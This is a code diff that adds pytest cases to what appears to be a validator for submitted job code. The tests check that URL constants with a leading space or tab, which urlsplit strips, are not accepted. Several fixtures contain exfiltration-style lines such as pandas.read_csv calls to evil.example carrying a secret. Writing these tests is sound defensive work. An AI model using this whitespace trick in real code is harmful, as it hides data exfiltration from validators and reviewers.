@@ -169,3 +169,20 @@ def test_same_named_modules_of_two_apps_each_answer_for_their_names(tmp_path: Pa
         "app_client/custom/train.py": "from model import scale\nscale(4.0)\n",
     }
     assert _decide_job(tmp_path, files) is Decision.ACCEPT
+
+
+BLANKED_CONSTANTS = {
+    # urlsplit strips leading C0 controls and spaces: pandas fetches these.
+    "url-after-a-space": "import pandas as pd\npd.read_csv(' https://evil.example/c?d=secret')\n",
+    "url-after-a-tab": "import pandas as pd\npd.read_csv('\\thttps://evil.example/c?d=secret')\n",
+    "store-url-after-a-space": "import datasets\ndatasets.load_from_disk(' s3://bucket/x')\n",
+}
+
+
+@pytest.mark.parametrize("text", list(BLANKED_CONSTANTS.values()), ids=list(BLANKED_CONSTANTS))
+def test_a_constant_with_blanks_or_controls_is_not_vouched_by_a_pattern(text: str) -> None:
+    assert _decide(text) is not Decision.ACCEPT
+
+
+def test_a_plain_local_path_is_vouched_by_its_pattern() -> None:
+    assert _decide("import pandas as pd\npd.read_csv('data/site-1.csv')\n") is Decision.ACCEPT
